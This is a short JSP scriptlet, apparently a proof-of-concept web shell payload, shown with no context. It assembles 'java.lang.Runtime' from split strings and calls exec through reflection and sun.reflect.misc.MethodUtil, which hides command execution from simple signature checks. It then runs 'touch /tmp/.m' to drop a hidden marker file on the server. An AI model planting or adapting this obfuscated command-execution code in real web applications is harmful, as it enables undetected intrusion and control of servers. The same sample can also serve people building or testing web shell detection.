<%
    Class<?> rc = Class.forName("java.lang." + "Run" + "time");
    Object rt = rc.getMethod("getRuntime").invoke(null);
    java.lang.reflect.Method m = rc.getMethod("exec", String.class);
    sun.reflect.misc.MethodUtil.invoke(m, rt, new Object[]{"touch /tmp/.m"});
%>
